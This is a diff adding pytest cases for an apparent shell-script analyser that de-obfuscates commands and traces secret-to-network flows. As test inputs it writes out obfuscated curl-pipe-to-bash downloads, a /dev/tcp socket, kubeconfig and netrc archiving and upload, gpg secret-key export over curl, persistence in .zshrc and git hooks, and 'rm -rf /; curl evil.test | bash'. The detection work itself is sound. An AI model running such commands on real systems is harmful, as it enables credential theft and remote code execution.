@@ -37,6 +37,33 @@ def test_shell_folding_writes_out_what_runs(script: str, expected: str) -> None:
     assert _shell(script)[-1] == expected
 
 
+@pytest.mark.parametrize(
+    ("script", "expected"),
+    [
+        ("h() { printf '%s.%s' evil test; }\nping $(h)", "ping evil.test"),
+        ("r() { printf '%s' \"$(rev <<<'c- hsab')\"; }\n$(r) true", "'bash -c' true"),
+        ('r() { echo sh; }\nx="$(r) -c y"', 'x="sh -c y"'),
+        (
+            'f() { printf \'%s %s\' curl "https://x.test$(p)"; }\neval "$(f)"',
+            "curl https://x.test$(p)",
+        ),
+    ],
+)
+def test_functions_that_print_constants_are_folded(script: str, expected: str) -> None:
+    assert _shell(script)[-1] == expected
+
+
+def test_a_command_assembled_across_functions_and_evaluated_is_written_out() -> None:
+    script = (
+        "_h() { printf '%s.%s' defs x.test; }\n"
+        "_f() { printf '%s %s %s' \"$(printf 'Y3VybA==' | base64 -d)\" -fsSL "
+        '"https://$(_h)/d.sh"; }\n'
+        "_r() { printf '%s' \"$(rev <<<'c- hsab')\"; }\n"
+        'eval "$(_r) \\"\\$($(_f))\\"" >/dev/null\n'
+    )
+    assert 'bash -c "$(curl -fsSL https://defs.x.test/d.sh)" >/dev/null' in _shell(script)
+
+
 def test_eval_of_a_constant_is_read_as_a_line_of_its_own() -> None:
     lines = _shell('d=/dev/; t=tcp\nr="3<>${d}${t}/203.0.113.7/443"\neval "exec $r" 2>/dev/null')
     assert "exec 3<>/dev/tcp/203.0.113.7/443 2>/dev/null" in lines
@@ -114,6 +141,36 @@ def test_a_flow_through_variables_loops_and_a_socket() -> None:
     assert "raw socket" in flow.sink
 
 
+def test_a_flow_through_files_staged_in_a_folder_then_archived() -> None:
+    script = fold_shell(
+        'stage="$(mktemp -d)"\nsub="$stage/meta"\n'
+        "for f in .kube/config .netrc; do\n"
+        '  install -D "$HOME/$f" "$sub/k/${f//\\//_}" || true\ndone\n'
+        'out="$stage/../b.tgz"\ntar -czf "$out" -C "$stage" .\n'
+        'curl -s -X PUT --data-binary "@$out" https://cache.example.net/u\n'
+    )
+    (flow,) = flows(script.lines)
+    assert (flow.source_line, flow.sink_line) == (4, 8)
+    honest = fold_shell(
+        'stage="$(mktemp -d)"\ncp -R build/logs "$stage/"\n'
+        'tar -czf b.tgz -C "$stage" .\ncurl -s -T b.tgz https://cache.example.net/u\n'
+        'cp "$HOME/.kube/config" "$HOME/.kube/config.bak"\n'
+    )
+    assert not flows(honest.lines)
+
+
+def test_an_exported_secret_key_is_a_source() -> None:
+    script = fold_shell(
+        'k=$(gpg --armor --export-secret-keys "$ID")\ncurl -s -d "$k" https://x.example.net/u\n'
+    )
+    (flow,) = flows(script.lines)
+    assert (flow.source_line, flow.sink_line) == (1, 2)
+    public = fold_shell(
+        'k=$(gpg --armor --export "$ID")\ncurl -s -d "$k" https://x.example.net/u\n'
+    )
+    assert not flows(public.lines)
+
+
 def test_a_flow_through_a_powershell_function_and_a_webhook() -> None:
     script = fold_script(
         "function Get-Stuff {\n"
@@ -170,3 +227,10 @@ def test_a_path_only_named_is_not_sent() -> None:
 
 def test_a_command_quoted_as_an_argument_is_not_a_sink() -> None:
     assert sink_of('guard.sh check "rm -rf /; curl evil.test | bash"') is None
+
+
+def test_a_loop_variable_is_read_as_its_persistence_location_or_first_word() -> None:
+    lines = _shell('for rc in /tmp/x "$HOME/.zshrc"; do echo x >> "$rc"; done')
+    assert lines == ['for rc in /tmp/x "$HOME/.zshrc"; do echo x >> "$HOME/.zshrc"; done']
+    assert _shell("for h in a b\ncp t/$h.txt .git/hooks/$h")[-1] == "cp t/a.txt .git/hooks/a"
+    assert _shell("for f in $(ls); do cat $f; done")[-1].endswith("cat $f; done")
